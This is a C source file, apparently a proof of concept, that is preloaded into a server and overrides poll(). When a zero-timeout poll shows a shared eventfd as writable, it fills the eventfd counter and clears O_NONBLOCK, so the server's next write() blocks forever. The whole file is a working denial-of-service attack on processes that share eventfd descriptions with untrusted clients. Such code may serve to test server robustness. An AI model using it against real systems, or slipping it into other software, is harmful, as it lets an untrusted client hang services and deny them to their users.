/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Preloaded into servers: a client that shares the file descriptions of eventfds acts at the worst
 * moment, right after a poll() that said that one can be written. It fills the counter and clears
 * O_NONBLOCK, so that the server's next write() waits for ever.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int is_eventfd(int fd)
{
    char link[32], target[64] = "";

    snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
    return readlink(link, target, sizeof(target) - 1) > 0 &&
           strcmp(target, "anon_inode:[eventfd]") == 0;
}

static void attack(int fd)
{
    const uint64_t full = UINT64_MAX - 1;

    fcntl(fd, F_SETFL, O_NONBLOCK);
    if (write(fd, &full, sizeof(full)) == (ssize_t)sizeof(full)) {
        fcntl(fd, F_SETFL, 0);
    }
}

int poll(struct pollfd *fds, nfds_t nr, int timeout)
{
    struct timespec ts = { timeout / 1000, timeout % 1000 * 1000000L };
    int n = (int)syscall(SYS_ppoll, fds, nr, timeout < 0 ? NULL : &ts, NULL, 0);

    if (n == 1 && nr == 1 && timeout == 0 && fds[0].revents == POLLOUT && is_eventfd(fds[0].fd)) {
        attack(fds[0].fd);
    }
    return n;
}
